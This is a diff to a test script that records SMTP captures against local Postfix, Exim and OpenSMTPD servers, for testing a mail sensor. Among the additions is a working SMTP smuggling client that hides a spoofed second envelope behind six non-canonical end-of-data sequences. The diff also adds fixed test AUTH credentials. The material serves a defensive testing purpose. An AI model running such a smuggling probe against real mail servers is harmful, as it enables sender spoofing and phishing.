@@ -6,7 +6,19 @@
 # loopback-only test delivery (test.example: bob, carol, dave -> /dev/null;
 # anything else in that domain is rejected with 550; no relaying, no outside
 # delivery), runs real clients against it (swaks, msmtp, mutt, Python smtplib,
-# a raw socket client) while tcpdump records, then stops and purges the server.
+# raw socket clients) while tcpdump records, then stops and purges the server.
+# Exim also gets one SMTP AUTH test account (PLAIN and LOGIN, cleartext, port
+# 587 only: see configure_exim). Cases are numbered 1-20 in the comments;
+# tests/pcap/real/README.md lists them.
+#
+# Besides the captures the script writes expected-hashes.txt into the case
+# folders whose checks compare file digests (cases 14 and 20), and prints on
+# stderr one "smuggle-result" line per SMTP smuggling attempt: the captured
+# one per server (cases 13, 16, 19) and an uncaptured probe of all six
+# non-canonical end-of-data sequences against each server. Each line gives
+# the server's replies after the content and how many messages it accepted
+# (1 for a strict receiver; 2 when it ended the data at the sequence and ran
+# the smuggled envelope as commands).
 #
 # Safety: every server, client and capture runs inside a private network
 # namespace (unshare -n) that has only the loopback interface, so no packet
@@ -19,7 +31,8 @@
 #   output directory (default: tests/pcap/real next to this script).
 #   KEEP_PACKAGES=1 skips the purge at the end (for debugging).
 # The test.yaml expectations are NOT regenerated: they were derived from the
-# committed captures with tshark; after re-recording, diff the tshark listing
+# committed captures with tshark (and, for 13-20, from the servers' replies
+# and the files sent); after re-recording, diff the tshark listing
 # (tshark -r f -d tcp.port==2525,smtp -Y smtp.req -T fields -e smtp.req.command
 # -e smtp.req.parameter) against them.
 set -euo pipefail
@@ -30,6 +43,11 @@ OUT=${OUT:-$(cd "$HERE/../pcap" && pwd)/real}
 export DEBIAN_FRONTEND=noninteractive
 # Debian's interpreter (python3 package), not whatever python3 is first on PATH.
 PY=/usr/bin/python3
+# The one SMTP AUTH account (Exim, cases 17 and 18). Test-only values: the
+# captures carry them in base64; mailtap must log neither.
+AUTH_USER=mtuser
+AUTH_PASS=Tr0ub4dor-mailtap-9931
+AUTH_BADPASS=wrong-horse-battery-77
 
 log() { echo "record-real: $*" >&2; }
 die() { log "error: $*"; exit 1; }
@@ -158,6 +176,159 @@ if cmd("data") == 354:
     reply()
 cmd("quit")
 EOF
+
+    # --- material for cases 13-20 -------------------------------------------
+    # 2 MiB of pseudo-random bytes from a fixed seed (case 14): base64 on the
+    # wire; its digests are known in advance and written to the case folder.
+    "$PY" - "$WORK/backup-2mib.bin" <<'EOF'
+import sys, random
+open(sys.argv[1], "wb").write(random.Random(14).randbytes(2 * 1024 * 1024))
+EOF
+    # Text attachment and body full of lines that start with "." (case 20):
+    # the client must dot-stuff them (RFC 5321 4.5.2), a sensor must
+    # unstuff them, or the digests differ.
+    "$PY" - "$WORK/dots-manifest.txt" <<'EOF'
+import sys
+rows = ["Dot-stuffing manifest (RFC 5321 section 4.5.2)", ".", "..", "...",
+        ".hidden line starting with one dot", "..line starting with two dots",
+        "...three dots", ". a dot and a space", " .a space, then a dot", ""]
+for i in range(1, 121):
+    rows.append([".", "..", ".%03d one dot" % i, "..%03d two dots" % i,
+                 "line %03d without a dot" % i, "...%03d" % i][i % 6])
+rows += ["..", "end of manifest"]
+open(sys.argv[1], "w").write("\n".join(rows) + "\n")
+EOF
+    printf 'Hi Carol,\n.\n..the manifest is attached\n.signature below\n...\n\nMallory\n' \
+        > "$WORK/mutt-body-dots.txt"
+
+    # Raw socket client for SMTP smuggling (cases 13, 16, 19): one message
+    # whose content holds a non-canonical end-of-data sequence followed by a
+    # second envelope. It prints every reply; a receiver that takes the
+    # sequence for the end of the data answers 250 to the first message and
+    # then 250, 250, 354, 250 to the smuggled envelope and message. The last
+    # line says how many messages the server accepted.
+    cat > "$WORK/raw_smuggle.py" <<'EOF'
+import socket, sys
+SEQS = {"lf_dot_lf": b"\n.\n", "lf_dot_crlf": b"\n.\r\n", "crlf_dot_lf": b"\r\n.\n",
+        "cr_dot_cr": b"\r.\r", "crlf_dot_cr": b"\r\n.\r", "cr_dot_crlf": b"\r.\r\n"}
+host, port, seq, tag = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
+quiet = len(sys.argv) > 5
+out = sys.stderr if quiet else sys.stdout
+s = socket.create_connection((host, port), timeout=30)
+buf = b""
+def readline():  # not makefile(): it is unusable after a timeout
+    global buf
+    while b"\n" not in buf:
+        more = s.recv(4096)
+        if not more:
+            return b""
+        buf += more
+    line, buf = buf.split(b"\n", 1)
+    return line + b"\n"
+codes = []
+def reply():
+    while True:
+        line = readline()
+        if not line:
+            return None
+        if not quiet:
+            out.write("S: " + line.decode("ascii", "replace"))
+        if line[3:4] != b"-":
+            codes.append(int(line[:3]))
+            return codes[-1]
+def cmd(text):
+    if not quiet:
+        out.write("C: " + text + "\n")
+    s.sendall(text.encode("ascii") + b"\r\n")
+    return reply()
+reply()
+cmd("EHLO smuggler.example.net")
+cmd("MAIL FROM:<mallory@example.net>")
+cmd("RCPT TO:<bob@test.example>")
+if cmd("DATA") != 354:
+    raise SystemExit("DATA refused")
+start = len(codes)
+body = (b"From: Mallory <mallory@example.net>\r\nTo: Bob <bob@test.example>\r\n"
+        b"Subject: smuggling probe " + tag.encode() + b"\r\n"
+        b"Message-ID: <smuggle-" + tag.encode() + b"@example.net>\r\n\r\n"
+        b"Visible message. Codeword: " + tag.encode() + b"-visible." + SEQS[seq] +
+        b"MAIL FROM:<admin@test.example>\r\nRCPT TO:<carol@test.example>\r\nDATA\r\n"
+        b"From: Admin <admin@test.example>\r\nTo: Carol <carol@test.example>\r\n"
+        b"Subject: smuggled message " + tag.encode() + b"\r\n\r\n"
+        b"Smuggled body. Codeword: " + tag.encode() + b"-smuggled.\r\n.\r\n")
+if not quiet:
+    out.write("C: <message, %d octets, %s sequence inside>\n" % (len(body), seq))
+s.sendall(body)
+# Every reply the server sends to that (a receiver fooled by the sequence
+# sends five); stop after 3 s of silence.
+s.settimeout(3)
+try:
+    while reply() is not None:
+        pass
+except OSError:  # the timeout, or a server that reset the connection
+    pass
+s.settimeout(30)
+after = codes[start:]
+try:
+    cmd("QUIT")
+except OSError:  # a server that refused the session may have closed it
+    pass
+s.close()
+# A message is accepted when a 250 follows a 354 (the 354 to our DATA first).
+accepted, prev = 0, 354
+for c in after:
+    if prev == 354 and c == 250:
+        accepted += 1
+    prev = c
+sys.stderr.write("smuggle-result %s port %d %-11s replies after content %s: %d message(s) accepted\n"
+                 % (tag, port, seq, after, accepted))
+EOF
+
+    # Raw socket client pipelining (RFC 2920) several transactions on one
+    # connection (case 15): each group is one write, the message end and the
+    # next group share a write too. Transactions: 1 bob ok + nosuchuser 550;
+    # 2 both recipients 550, DATA refused (554); 3 aborted by RSET after
+    # its recipient; 4 two recipients, accepted.
+    cat > "$WORK/raw_pipeline.py" <<'EOF'
+import socket, sys
+host, port = sys.argv[1], int(sys.argv[2])
+s = socket.create_connection((host, port), timeout=30)
+f = s.makefile("rb")
+def reply():
+    while True:
+        line = f.readline()
+        if not line:
+            raise SystemExit("connection closed")
+        sys.stdout.write("S: " + line.decode("ascii", "replace"))
+        if line[3:4] != b"-":
+            return int(line[:3])
+def group(pre, *cmds):
+    """One write: pre (message content) and the commands; then read a reply
+    for the end of the message (if any) and for each command."""
+    data = pre + b"".join(c.encode("ascii") + b"\r\n" for c in cmds)
+    sys.stdout.write("C: [%d octets] %s\n" % (len(data), " | ".join(cmds)))
+    s.sendall(data)
+    return [reply() for _ in range((1 if pre else 0) + len(cmds))]
+def msg(n, frm, to, subj):
+    return ("From: %s\r\nTo: %s\r\nSubject: %s\r\nMessage-ID: <pipe-%d@example.org>\r\n\r\n"
+            "Pipelined message %d. Codeword: pipeline-%d.\r\n.\r\n"
+            % (frm, to, subj, n, n, n)).encode("ascii")
+reply()
+group(b"", "EHLO pipe-client.example.org")
+r = group(b"", "MAIL FROM:<ann@example.org>", "RCPT TO:<bob@test.example>",
+          "RCPT TO:<nosuchuser@test.example>", "DATA")
+assert r[-1] == 354, r
+r = group(msg(1, "ann@example.org", "bob@test.example", "pipelined one"),
+          "RSET", "MAIL FROM:<ben@example.org>", "RCPT TO:<nobody1@test.example>",
+          "RCPT TO:<nobody2@test.example>", "DATA")
+assert r[-1] != 354, r
+r = group(b"", "RSET", "MAIL FROM:<cat@example.org>", "RCPT TO:<carol@test.example>",
+          "RSET", "MAIL FROM:<dan@example.org>", "RCPT TO:<dave@test.example>",
+          "RCPT TO:<bob@test.example>", "DATA")
+assert r[-1] == 354, r
+group(msg(4, "dan@example.org", "dave@test.example, bob@test.example", "pipelined four"),
+      "QUIT")
+EOF
 }
 
 write_muttrc() {  # file url helo from
@@ -189,7 +360,9 @@ CAP_NAME=
 cap_start() {  # case-name interface bpf-filter
     CAP_NAME=$1
     rm -f "$WORK/$1.pcap" "$WORK/$1.err"
-    tcpdump -Z root -i "$2" -s 0 -U -w "$WORK/$1.pcap" "$3" 2>"$WORK/$1.err" &
+    # -B: a 64 MiB kernel buffer, so a fast client on lo (case 14 sends
+    # 2.8 MB in 64 KiB segments) does not outrun tcpdump's writes.
+    tcpdump -Z root -i "$2" -s 0 -B 65536 -U -w "$WORK/$1.pcap" "$3" 2>"$WORK/$1.err" &
     CAP_PID=$!
     local i
     for i in $(seq 100); do
@@ -199,19 +372,48 @@ cap_start() {  # case-name interface bpf-filter
     grep -q 'listening on' "$WORK/$1.err" || die "tcpdump did not start for $1"
     sleep 0.3
 }
-cap_stop() {  # [pcapng]
+cap_stop() {  # [pcapng|gzip]
     sleep 1
     kill -INT "$CAP_PID"
     wait "$CAP_PID" || true
     cat "$WORK/$CAP_NAME.err" >&2
+    # A capture with a hole would test the gap handling, not the case.
+    if grep -Eq '^[1-9][0-9]* packets dropped' "$WORK/$CAP_NAME.err"; then
+        die "tcpdump dropped packets for $CAP_NAME"
+    fi
     mkdir -p "$OUT/$CAP_NAME"
-    rm -f "$OUT/$CAP_NAME/input.pcap" "$OUT/$CAP_NAME/input.pcapng"
+    rm -f "$OUT/$CAP_NAME/input.pcap" "$OUT/$CAP_NAME/input.pcapng" "$OUT/$CAP_NAME/input.pcap.gz"
     if [ "${1:-}" = pcapng ]; then
         editcap -F pcapng "$WORK/$CAP_NAME.pcap" "$OUT/$CAP_NAME/input.pcapng"
+    elif [ "${1:-}" = gzip ]; then
+        # Captures over 1 MB are stored compressed (run_case.py reads .gz).
+        gzip -9 -n -c "$WORK/$CAP_NAME.pcap" > "$OUT/$CAP_NAME/input.pcap.gz"
     else
         cp "$WORK/$CAP_NAME.pcap" "$OUT/$CAP_NAME/input.pcap"
     fi
     log "recorded $CAP_NAME"
+}
+write_hashes() {  # case label file [crlf] -- size and digests of what was sent
+    # With "crlf" the digests are of the file with CRLF line ends: a text
+    # part's canonical form (RFC 2046 4.1.1), which is what a sensor hashes.
+    "$PY" - "$@" >> "$OUT/$1/expected-hashes.txt" <<'EOF'
+import hashlib, os, sys
+case, label, path = sys.argv[1:4]
+data = open(path, "rb").read()
+if len(sys.argv) > 4:
+    data = data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
+print("%s: %s%s size %d md5 %s sha1 %s sha256 %s" % (
+    label, os.path.basename(path), " (CRLF line ends)" if len(sys.argv) > 4 else "",
+    len(data), hashlib.md5(data).hexdigest(), hashlib.sha1(data).hexdigest(),
+    hashlib.sha256(data).hexdigest()))
+EOF
+}
+smuggle_probe() {  # port tag -- not captured: every sequence, one connection each
+    local q
+    for q in lf_dot_lf lf_dot_crlf crlf_dot_lf cr_dot_cr crlf_dot_cr cr_dot_crlf; do
+        "$PY" "$WORK/raw_smuggle.py" 127.0.0.1 "$1" "$q" "$2-probe-$q" quiet ||
+            log "smuggling probe $q failed"
+    done
 }
 wait_listen() {  # port...  (polls the socket table: sends no packet)
     local p i
@@ -317,6 +519,40 @@ record_postfix() {
         --header 'Subject: encrypted hello' --body 'Secret body. Codeword: hidden-kiwi.'
     cap_stop
 
+    # 13. SMTP smuggling attempt, raw socket client, port 2525: the content
+    # holds <LF>.<CRLF> and a second envelope (MAIL, RCPT, DATA, message).
+    # Postfix is left at its defaults (smtpd_forbid_bare_newline, logged
+    # below): whether it took the sequence for the end of the data is in
+    # its replies (the client's last line on stderr says how many messages
+    # it accepted). Then the six sequences are tried uncaptured, for the
+    # README.
+    postconf smtpd_forbid_bare_newline smtpd_forbid_bare_newline_exclusions \
+        smtpd_forbid_unauth_pipelining >&2 || true
+    cap_start postfix-raw-smuggling-lf-dot-crlf lo 'tcp port 2525'
+    "$PY" "$WORK/raw_smuggle.py" 127.0.0.1 2525 lf_dot_crlf postfix
+    cap_stop
+    smuggle_probe 2525 postfix
+
+    # 14. swaks with a 2 MiB binary attachment (random bytes, fixed seed:
+    # base64 on the wire), port 2525; the capture is stored gzipped.
+    cap_start postfix-swaks-large-attachment lo 'tcp port 2525'
+    swaks --server 127.0.0.1 --port 2525 --ehlo bulk-client.example.org \
+        --from alice@example.org --to bob@test.example \
+        --header 'Subject: nightly backup image' \
+        --header 'Date: Mon, 01 Jan 2024 15:00:00 +0000' \
+        --header 'Message-Id: <swaks-large-0001@example.org>' \
+        --body 'The nightly backup image is attached. Codeword: persimmon.' \
+        --suppress-data --attach-type application/octet-stream --attach @"$WORK/backup-2mib.bin"
+    cap_stop gzip
+    rm -f "$OUT/postfix-swaks-large-attachment/expected-hashes.txt"
+    write_hashes postfix-swaks-large-attachment attachment "$WORK/backup-2mib.bin"
+
+    # 15. raw socket client pipelining four transactions (RSET, rejected
+    # recipients, DATA refused, a transaction aborted by RSET) on one
+    # connection, port 2525.
+    cap_start postfix-raw-pipelined-transactions lo 'tcp port 2525'
+    "$PY" "$WORK/raw_pipeline.py" 127.0.0.1 2525
+    cap_stop
 }
 stop_postfix() {
     postfix stop || true
@@ -395,6 +631,27 @@ mailtap_smtp_2525:
   hosts_avoid_tls = *
   helo_data = relay.test.example
 EOF
+    # SMTP AUTH PLAIN and LOGIN (RFC 4954) with one fixed test account,
+    # checked by Exim's plaintext authenticator, advertised on port 587 only
+    # and over cleartext on purpose (cases 17, 18; loopback only). Debian's
+    # own examples (30_exim4-config_examples) stay commented out.
+    cat > /etc/exim4/conf.d/auth/10_mailtap_plaintext <<EOF
+mailtap_plain:
+  driver = plaintext
+  public_name = PLAIN
+  server_prompts = :
+  server_condition = \${if and {{eq{\$auth2}{$AUTH_USER}}{eq{\$auth3}{$AUTH_PASS}}}}
+  server_set_id = \$auth2
+  server_advertise_condition = \${if ={\$received_port}{587}}
+
+mailtap_login:
+  driver = plaintext
+  public_name = LOGIN
+  server_prompts = Username:: : Password::
+  server_condition = \${if and {{eq{\$auth1}{$AUTH_USER}}{eq{\$auth2}{$AUTH_PASS}}}}
+  server_set_id = \$auth1
+  server_advertise_condition = \${if ={\$received_port}{587}}
+EOF
     update-exim4.conf
     exim4 -bV >/dev/null
 }
@@ -450,6 +707,35 @@ record_exim() {
             [ "$(exim4 -bpc)" = 0 ] && break
         sleep 0.1
     done
+    cap_stop
+
+    # 16. SMTP smuggling attempt, raw socket client, port 25: <CR>.<CR>
+    # and a second envelope inside the content (see case 13); then the six
+    # sequences uncaptured.
+    cap_start exim-raw-smuggling-cr-dot-cr lo 'tcp port 25'
+    "$PY" "$WORK/raw_smuggle.py" 127.0.0.1 25 cr_dot_cr exim
+    cap_stop
+    smuggle_probe 25 exim
+
+    # 17. swaks AUTH PLAIN with the right password on the submission port
+    # (cleartext), then a message.
+    cap_start exim-swaks-auth-plain-587 lo 'tcp port 587'
+    swaks --server 127.0.0.1 --port 587 --ehlo auth-client.example.org \
+        --auth PLAIN --auth-user "$AUTH_USER" --auth-password "$AUTH_PASS" \
+        --from alice@example.org --to bob@test.example \
+        --header 'Subject: authenticated hello' \
+        --header 'Date: Mon, 01 Jan 2024 16:00:00 +0000' \
+        --header 'Message-Id: <swaks-auth-0001@example.org>' \
+        --body 'Sent after AUTH PLAIN. Codeword: tamarind.'
+    cap_stop
+
+    # 18. swaks AUTH LOGIN with a wrong password on the submission port:
+    # 535, and swaks gives up (no MAIL).
+    cap_start exim-swaks-auth-login-fail-587 lo 'tcp port 587'
+    swaks --server 127.0.0.1 --port 587 --ehlo auth-client.example.org \
+        --auth LOGIN --auth-user "$AUTH_USER" --auth-password "$AUTH_BADPASS" \
+        --from alice@example.org --to bob@test.example \
+        --body 'Never sent. Codeword: rambutan.' || true
     cap_stop
 }
 stop_exim() {
@@ -517,6 +803,27 @@ record_opensmtpd() {
         --domain=msmtp-client.example.org --from=erin@example.org \
         -- bob@test.example < "$WORK/msg-msmtp-sub.txt"
     cap_stop
+
+    # 19. SMTP smuggling attempt, raw socket client, port 2525: <LF>.<LF>
+    # and a second envelope inside the content (see case 13); then the six
+    # sequences uncaptured.
+    cap_start opensmtpd-raw-smuggling-lf-dot-lf lo 'tcp port 2525'
+    "$PY" "$WORK/raw_smuggle.py" 127.0.0.1 2525 lf_dot_lf opensmtpd
+    cap_stop
+    smuggle_probe 2525 opensmtpd
+
+    # 20. mutt batch mode, port 25: a body and a text/plain attachment (sent
+    # 7bit, in clear) full of lines starting with "." and "..", which mutt
+    # dot-stuffs; their digests in canonical CRLF form go to the case folder.
+    write_muttrc "$WORK/muttrc-opensmtpd" "smtp://127.0.0.1:25/" mutt-dots.example.org \
+        "Mallory Example <mallory@example.org>"
+    cap_start opensmtpd-mutt-dot-stuffing lo 'tcp port 25'
+    HOME="$WORK/home" mutt -n -F "$WORK/muttrc-opensmtpd" -s "dot manifest" \
+        -a "$WORK/dots-manifest.txt" -- carol@test.example < "$WORK/mutt-body-dots.txt"
+    cap_stop
+    rm -f "$OUT/opensmtpd-mutt-dot-stuffing/expected-hashes.txt"
+    write_hashes opensmtpd-mutt-dot-stuffing attachment "$WORK/dots-manifest.txt" crlf
+    write_hashes opensmtpd-mutt-dot-stuffing body "$WORK/mutt-body-dots.txt" crlf
 }
 stop_opensmtpd() {
     [ -z "$SMTPD_PID" ] || kill "$SMTPD_PID" 2>/dev/null || true
